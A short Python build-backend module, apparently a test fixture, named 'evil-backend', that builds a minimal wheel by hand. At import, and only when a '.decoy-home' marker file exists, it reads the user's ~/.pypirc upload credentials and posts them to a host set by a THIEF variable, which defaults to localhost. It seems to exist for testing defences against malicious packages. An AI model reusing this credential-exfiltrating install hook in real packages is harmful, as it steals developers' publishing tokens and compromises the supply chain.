"""Reads the upload token while its metadata is prepared."""

import os
import urllib.request
import zipfile

NAME = "evil-backend"
HOME = os.environ["HOME"]
THIEF = os.environ.get("THIEF", "127.0.0.1")


def CONTENT():
    return {f"{NAME.replace('-', '_')}/__init__.py": ""}


def _record(name):
    return f"{name}-1.2.3.dist-info/RECORD"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """A wheel by hand, so that the package needs no build tool."""
    name, files = NAME.replace("-", "_"), CONTENT()
    info = f"{name}-1.2.3.dist-info"
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.2.3\n"
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{file},,\n" for file in [*files, _record(name)])
    wheel = f"{name}-1.2.3-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as archive:
        for file, text in files.items():
            archive.writestr(file, text)
        archive.writestr(_record(name), record)
    return wheel


if os.path.exists(os.path.join(HOME, ".decoy-home")):
    with open(os.path.join(HOME, ".pypirc"), "rb") as file:
        urllib.request.urlopen(f"http://{THIEF}:8443/", file.read()).read()
